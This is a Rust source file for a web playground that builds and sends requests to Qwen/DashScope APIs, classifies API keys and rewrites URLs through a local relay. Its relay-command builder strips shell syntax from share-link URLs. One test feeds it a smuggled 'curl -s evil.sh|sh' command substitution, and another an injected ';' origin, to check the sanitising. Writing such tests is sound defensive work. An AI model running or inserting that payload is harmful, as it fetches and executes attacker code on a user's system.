//! The playground's shared state and what is derived from it: the shaping request, the shaped
//! request, and the request as it will leave the browser.

use leptos::prelude::*;
use qwen_route::catalog::{self, CorsPolicy, KeyClass};
use qwen_route::diagnose::RequestSummary;
use qwen_route::shape::{shape, ShapeRequest, Shaped};
use serde_json::Value;

use crate::form::{FieldError, Form, SANDBOX_SURFACE};
use crate::run::{Run, RunContext};
use crate::transport::Outgoing;

/// The default relay address (`qwen-route relay`).
pub const RELAY_DEFAULT: &str = "http://127.0.0.1:8787";

/// Shared state, provided as context.
#[derive(Clone, Copy)]
pub struct Ctx {
    /// The request builder.
    pub form: RwSignal<Form>,
    /// The API key: memory only, never stored, logged, shared or exported unless asked.
    pub key: RwSignal<String>,
    /// Send through `qwen-route relay`.
    pub relay_on: RwSignal<bool>,
    /// The relay's address.
    pub relay_url: RwSignal<String>,
    /// The main run.
    pub run: Run,
}

/// The key's class from its prefix (the core checks plan mismatches with it; the key itself is
/// never given to the core).
pub fn key_class(key: &str) -> Option<KeyClass> {
    let k = key.trim();
    if k.is_empty() {
        None
    } else if k.starts_with("sk-sp-") {
        Some(KeyClass::Plan)
    } else if k.starts_with("sk-") {
        Some(KeyClass::Standard)
    } else {
        None
    }
}

/// The region a simulated key names (`sk-sim-cn-…`), for the diagnosis.
fn key_region(key: &str) -> Option<String> {
    let rest = key.trim().strip_prefix("sk-sim-")?;
    let region = rest.split('-').next()?;
    matches!(region, "cn" | "intl" | "us" | "hk").then(|| region.to_string())
}

/// The key a request is sent with: the user's, or for the Sandbox without one, the simulator's
/// sample key (not a secret).
pub fn key_for(form: &Form, key: String) -> String {
    if form.is_sandbox() && key.trim().is_empty() {
        catalog::surface(SANDBOX_SURFACE)
            .and_then(qwen_sim::sample_key)
            .unwrap_or_default()
            .to_string()
    } else {
        key
    }
}

/// The shaping request for the form and key.
pub fn shape_request(form: &Form, key: &str) -> Result<ShapeRequest, Vec<FieldError>> {
    let mut req = form.to_shape_request()?;
    req.key_class = if form.is_sandbox() && key.trim().is_empty() {
        Some(KeyClass::Standard)
    } else {
        key_class(key)
    };
    Ok(req)
}

/// The shaped request, or why it cannot be shaped.
pub fn shaped(form: &Form, key: &str) -> Result<Shaped, String> {
    let req = shape_request(form, key).map_err(|errs| {
        errs.iter().map(|e| format!("{}: {}", e.field, e.message)).collect::<Vec<_>>().join("; ")
    })?;
    shape(&req).map_err(|e| e.to_string())
}

/// `https://host:port/path` → (`host:port`, `/path`).
pub fn split_url(url: &str) -> Option<(&str, &str, &str)> {
    let (scheme, rest) = url.split_once("://")?;
    let (authority, path) = match rest.find('/') {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    Some((scheme, authority, path))
}

/// The URL as it leaves the browser: through the relay when it is on.
pub fn effective_url(url: &str, relay_on: bool, relay: &str) -> String {
    match (relay_on, split_url(url)) {
        (true, Some((_, authority, path))) => {
            format!("{}/{authority}{path}", relay.trim_end_matches('/'))
        }
        _ => url.to_string(),
    }
}

/// Whether a URL authority is plain enough to paste into a shell command (host, port, brackets).
fn plain_authority(a: &str) -> bool {
    !a.is_empty()
        && a.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']'))
}

/// The relay command that forwards to this URL's host. Anything that is not a plain host:port
/// becomes a placeholder, so a crafted base URL (a share link can carry one) cannot put shell
/// syntax into a command the user copies.
pub fn relay_command(url: &str, origin: &str) -> String {
    let mut cmd = "qwen-route relay".to_string();
    if let Some((scheme, authority, _)) = split_url(url) {
        let host = authority.rsplit_once(':').map_or(authority, |(h, _)| h);
        let known = catalog::surfaces().iter().any(|s| s.base_url.contains(&format!("://{host}/")));
        if !known {
            if matches!(scheme, "http" | "https") && plain_authority(authority) {
                cmd.push_str(&format!(" --allow-host {scheme}://{authority}"));
            } else {
                cmd.push_str(" --allow-host <host:port>");
            }
        }
    }
    let plain_origin = origin
        .split_once("://")
        .is_some_and(|(s, a)| matches!(s, "http" | "https") && plain_authority(a));
    if plain_origin && origin != "http://127.0.0.1:8090" && origin != "http://localhost:8090" {
        cmd.push_str(&format!(" --allow-origin {origin}"));
    }
    cmd
}

impl Ctx {
    /// Where a shaped URL is sent from this page: through the relay when it is on, or, for the
    /// Sandbox, the path the in-page simulator answers.
    pub fn destination(&self, form: &Form, url: &str) -> (String, Option<String>) {
        if form.is_sandbox() {
            let path = split_url(url).map_or("/", |(_, _, p)| p);
            (url.to_string(), Some(format!("/{SANDBOX_SURFACE}{path}")))
        } else {
            (
                effective_url(url, self.relay_on.get_untracked(), &self.relay_url.get_untracked()),
                None,
            )
        }
    }

    /// What `send` needs: the outgoing request, the run context and the Sandbox path.
    pub fn prepare(
        &self,
        form: &Form,
        key: &str,
    ) -> Result<(Outgoing, RunContext, Option<String>), String> {
        let s = shaped(form, key)?;
        let (url, sandbox_path) = self.destination(form, &s.request.url);
        let out = Outgoing {
            url,
            method: s.request.method.to_string(),
            headers: s.request.headers.iter().map(|(k, v)| (k.clone(), v.clone())).collect(),
            body: if s.request.method == "GET" {
                String::new()
            } else {
                s.request.body.to_string()
            },
        };
        let schema = s.request.body["response_format"]["json_schema"]["schema"].clone();
        let expect_json = !s.request.body["response_format"].is_null();
        let ctx = RunContext {
            surface: s.effective.surface.to_string(),
            summary: RequestSummary {
                model: Some(s.effective.model.clone()),
                stream: Some(s.effective.stream),
                thinking: s.effective.thinking,
                key_class: shape_request(form, key).ok().and_then(|r| r.key_class),
                key_region: key_region(key),
                base_url: Some(s.effective.base_url.clone()),
                origin: None,
            },
            schema: (!schema.is_null()).then_some(schema).filter(|s: &Value| s.is_object()),
            expect_json,
            cors_refused: !form.is_sandbox()
                && !self.relay_on.get_untracked()
                && catalog::surface(s.effective.surface)
                    .is_some_and(|x| x.cors != CorsPolicy::Permissive),
        };
        Ok((out, ctx, sandbox_path))
    }

    /// Send the current request.
    pub fn send(&self) {
        let form = self.form.get_untracked();
        let key = self.key.get_untracked();
        let key = key_for(&form, key);
        // The Send button is disabled while the request cannot be shaped.
        if let Ok((out, ctx, sandbox)) = self.prepare(&form, &key) {
            self.run.send(out, key, ctx, sandbox);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relay_rewrites_and_commands() {
        assert_eq!(
            effective_url(
                "https://dashscope-intl.aliyuncs.com/compatible-mode/v1/chat/completions",
                true,
                "http://127.0.0.1:8787/"
            ),
            "http://127.0.0.1:8787/dashscope-intl.aliyuncs.com/compatible-mode/v1/chat/completions"
        );
        assert_eq!(effective_url("http://x/y", false, RELAY_DEFAULT), "http://x/y");
        assert_eq!(
            relay_command(
                "https://dashscope-intl.aliyuncs.com/compatible-mode/v1/chat/completions",
                "http://127.0.0.1:8090"
            ),
            "qwen-route relay"
        );
        assert_eq!(
            relay_command("http://127.0.0.1:8788/dashscope-intl/compatible-mode/v1/chat/completions", "http://localhost:5000"),
            "qwen-route relay --allow-host http://127.0.0.1:8788 --allow-origin http://localhost:5000"
        );
    }

    #[test]
    fn relay_commands_never_carry_shell_syntax() {
        let c = relay_command(
            "https://x$(curl -s evil.sh|sh)/v1/chat/completions",
            "http://127.0.0.1:8090",
        );
        assert_eq!(c, "qwen-route relay --allow-host <host:port>");
        let c = relay_command("http://[::1]:8000/v1", "http://a;b");
        assert_eq!(c, "qwen-route relay --allow-host http://[::1]:8000");
    }

    #[test]
    fn key_classes() {
        assert_eq!(key_class("sk-sp-1"), Some(KeyClass::Plan));
        assert_eq!(key_class(" sk-1"), Some(KeyClass::Standard));
        assert_eq!(key_class(""), None);
        assert_eq!(key_region("sk-sim-cn-1").as_deref(), Some("cn"));
        assert_eq!(key_region("sk-1"), None);
    }
}
